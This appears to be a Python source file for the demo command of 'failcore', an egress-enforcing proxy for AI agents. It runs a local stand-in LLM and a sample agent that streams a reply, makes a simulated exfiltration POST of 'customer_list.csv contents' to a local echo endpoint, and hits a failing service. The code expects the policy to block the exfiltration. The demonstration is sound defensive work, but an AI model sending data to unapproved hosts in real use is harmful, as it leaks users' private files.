"""`failcore sample`: the whole product offline in one command.

A local HTTPS stand-in plays the LLM provider, failcore's proxy runs in enforce mode with a tiny
policy, and a small agent speaking the OpenAI chat API over the standard library's HTTP client (so the
sample needs nothing beyond failcore's own dependencies) (1) streams an answer over SSE, (2) tries to
send a file to a host the policy does not allow, (3) hits a failing upstream. Then the run's summary
and events are printed from the tape, the way a user would inspect a real run.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import ssl
import sys
import tempfile
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from failcore.demo.server import StandIn
from failcore.paths import failcore_home
from failcore.runner import EmbeddedProxy, ProxySettings

SAMPLE_POLICY = Path(__file__).parent / "data" / "sample_policy.yaml"


def sample_tape_dir() -> Path:
    return failcore_home() / "sample-tape"


def run_agent(proxy_url: str, ca_cert: Path, llm_base: str, exfil_url: str, broken_url: str) -> list[str]:
    """A minimal agent: one streamed LLM call, one exfiltration attempt, one call to a broken service."""
    trust = ssl.create_default_context(cafile=str(ca_cert))
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": proxy_url, "https": proxy_url}),
        urllib.request.HTTPSHandler(context=trust),
    )
    log: list[str] = []
    chat = {
        "model": "gpt-4o-mini",
        "messages": [{"role": "user", "content": "Summarise the quarterly report"}],
        "stream": True,
        "stream_options": {"include_usage": True},
    }
    request = urllib.request.Request(
        f"{llm_base}/chat/completions",
        data=json.dumps(chat).encode(),
        headers={"Authorization": "Bearer sk-sample-not-a-real-key", "Content-Type": "application/json"},
    )
    words: list[str] = []
    with opener.open(request, timeout=30) as stream:
        for raw in stream:
            line = raw.decode().strip()
            if not line.startswith("data: ") or line == "data: [DONE]":
                continue
            for choice in json.loads(line[len("data: ") :]).get("choices", []):
                words.append(choice.get("delta", {}).get("content") or "")
    log.append(f"1. LLM answered over SSE: {''.join(words)!r}")
    try:
        opener.open(urllib.request.Request(exfil_url, data=b"customer_list.csv contents"), timeout=30)
        log.append("2. exfiltration attempt went through (it should not have!)")
    except urllib.error.URLError as e:
        log.append(f"2. exfiltration attempt refused by failcore: {e.reason}")
    try:
        with opener.open(broken_url, timeout=30) as resp:
            status = resp.status
    except urllib.error.HTTPError as e:
        status = e.code
    log.append(f"3. flaky upstream answered {status}")
    return log


async def run_sample(*, json_output: bool = False, tape: Path | None = None) -> int:
    from rich.console import Console

    from failcore.runs import run_events, summarize_tape
    from failcore.views.tables import events_table, run_summary_table

    console = Console(highlight=False)

    tape = tape or sample_tape_dir()
    workdir = Path(tempfile.mkdtemp(prefix="failcore-sample-"))
    try:
        with StandIn(workdir=workdir) as upstream:
            proxy = EmbeddedProxy(
                ProxySettings(
                    listen_port=0,
                    policy=str(SAMPLE_POLICY),
                    tape=str(tape),
                    sets=[f"ssl_verify_upstream_trusted_ca={upstream.ca_path}"],
                )
            )
            await proxy.start()
            assert proxy.ca is not None
            try:
                log = await asyncio.to_thread(
                    run_agent,
                    proxy.url,
                    proxy.ca.cert_path,
                    f"https://localhost:{upstream.port}/v1",
                    f"https://127.0.0.1:{upstream.port}/echo",
                    f"https://localhost:{upstream.port}/status/503",
                )
            finally:
                await proxy.stop()
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    run = proxy.session.run_id
    summary: dict[str, Any] = summarize_tape(tape, run=run)[0].to_dict()
    summary["tape"] = str(tape)
    if json_output:
        sys.stdout.write(json.dumps({"agent": log, "summary": summary}, indent=2) + "\n")
        return 0
    console.print("[bold]failcore sample[/]: an agent ran through failcore against a local LLM stand-in\n")
    for line in log:
        console.print(line, markup=False)
    console.print()
    shown = [ev for ev in run_events(tape, run) if ev.get("kind") in ("network", "internal_error", "dropped")]
    console.print(events_table(f"events of run {run}", shown, console.width))
    console.print(run_summary_table(summary))
    console.print("\nWhat next:", markup=False)
    for cmd in (
        f"failcore show --tape {tape} --last",
        f"failcore show --tape {tape} --last --event 3",
        f"failcore verify {tape}",
        "failcore run -- python your_agent.py",
        'mitmdump -s "$(failcore addon-path)"',
    ):
        console.print(f"  {cmd}", markup=False)
    return 0
